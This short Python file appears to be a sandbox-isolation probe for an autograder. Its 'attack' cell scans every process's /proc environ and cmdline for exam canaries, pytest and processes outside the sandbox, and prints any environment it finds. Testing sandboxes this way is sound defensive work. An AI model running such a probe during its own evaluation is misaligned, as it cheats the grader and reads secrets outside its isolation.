# ruff: noqa
"""
goal = "read the grader's environment, command line and memory"
"""

# %% attack
import os
from pathlib import Path

for path in [*Path("/proc").glob("*/environ"), *Path("/proc").glob("*/cmdline")]:
    try:
        text = path.read_bytes()
    except OSError:
        continue
    if b"canary-of" + b"-the-exam" in text or b"pytest" in text:
        print("FOU" + "ND", path, text)
if any("canary" in value for value in os.environ.values()):
    print("FOU" + "ND", os.environ)
others = [p.name for p in Path("/proc").iterdir() if p.name.isdigit()]
for number in others:
    try:
        command = Path(f"/proc/{number}/cmdline").read_bytes().split(b"\0")
    except OSError:
        continue
    if b"autograde.kernel.boot" not in command and b"--unshare-all" not in command:
        print("FOU" + "ND", number, command)
